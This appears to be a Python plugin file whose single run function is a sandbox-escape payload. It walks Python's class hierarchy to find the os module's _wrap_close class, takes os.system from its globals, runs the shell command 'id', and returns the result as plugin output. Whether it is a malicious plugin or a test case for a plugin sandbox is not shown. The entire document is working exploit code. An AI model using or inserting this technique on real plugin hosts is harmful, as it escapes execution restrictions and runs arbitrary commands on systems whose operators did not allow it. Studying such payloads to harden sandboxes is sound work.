def run(plugin_config, context):
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return {"output": cls.__init__.__globals__["system"]("id")}
